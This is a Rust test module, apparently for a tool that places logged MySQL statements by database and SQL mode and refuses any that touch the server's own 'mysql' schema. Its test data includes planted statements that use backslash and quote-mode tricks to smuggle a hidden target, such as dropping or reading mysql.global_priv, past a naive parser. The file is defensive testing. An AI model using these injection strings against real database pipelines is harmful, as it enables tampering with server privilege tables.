        assert_eq!(
            place("DROP TABLE sys.x", "bank", &all, Quoting::DEFAULT),
            Placement::Outside
        );
        // The server's own database in another case: a server folding
        // names reads it as its own.
        assert!(matches!(
            place(
                "DROP TABLE MYSQL.global_priv",
                "bank",
                &all,
                Quoting::DEFAULT
            ),
            Placement::Refuse(_)
        ));
    }

    /// A statement is placed as the server reads it under the SQL mode it
    /// was logged under. Planted statements whose backslash hides a name
    /// from the default reading (`NO_BACKSLASH_ESCAPES`; `ANSI_QUOTES`,
    /// alone or through a combination mode) are refused by the name the
    /// server would act on; an honest statement with a backslash under
    /// those modes applies, where the default reading would misplace it.
    #[test]
    fn statements_are_placed_as_their_sql_mode_reads_quotes() {
        const NO_BACKSLASH_ESCAPES: u64 = 1 << 20;
        let under = |mode: u64, sql: &str| place(sql, "bank", &scope(), Quoting::of_sql_mode(mode));
        for (mode, planted) in [
            (
                NO_BACKSLASH_ESCAPES,
                "ALTER TABLE bank.t COMMENT 'a\\', RENAME TO mysql.x -- '",
            ),
            (
                1 << 2,
                "DROP TABLE IF EXISTS bank.\"x\\\", mysql.global_priv -- \"",
            ),
            (
                1 << 9,
                "RENAME TABLE bank.a TO bank.\"b\\\", mysql.global_priv TO bank.s -- \"",
            ),
            (
                1 << 18,
                "CREATE TABLE bank.t (\"c\\\" INT) SELECT * FROM mysql.global_priv -- \" INT)",
            ),
        ] {
            assert!(
                matches!(under(mode, planted), Placement::Refuse(_)),
                "{mode}: {planted}: {:?}",
                under(mode, planted)
            );
            // The default reading sees a comment or a name where the
            // server sees more: it would have applied or left it out.
            assert!(
                !matches!(under(0, planted), Placement::Refuse(_)),
                "{planted}: {:?}",
                under(0, planted)
            );
        }
        for (mode, honest) in [
            (NO_BACKSLASH_ESCAPES, "ALTER TABLE t COMMENT 'C:\\temp\\'"),
            (
                NO_BACKSLASH_ESCAPES | 1 << 2,
                "CREATE TABLE \"t\\x\" (v VARCHAR(8) DEFAULT 'a\\')",
            ),
            (
                1 << 8 | 1 << 10 | 1 << 11 | 1 << 12,
                "ALTER TABLE bank.\"t\\\" ADD c INT",
            ),
        ] {
            assert_eq!(
                under(mode, honest),
                Placement::Apply(honest.into()),
                "{mode}: {honest}"
            );
        }
        // Left open under the default reading: refused there.
        assert!(matches!(
            under(0, "ALTER TABLE t COMMENT 'C:\\temp\\'"),
            Placement::Refuse(_)
        ));
    }
}
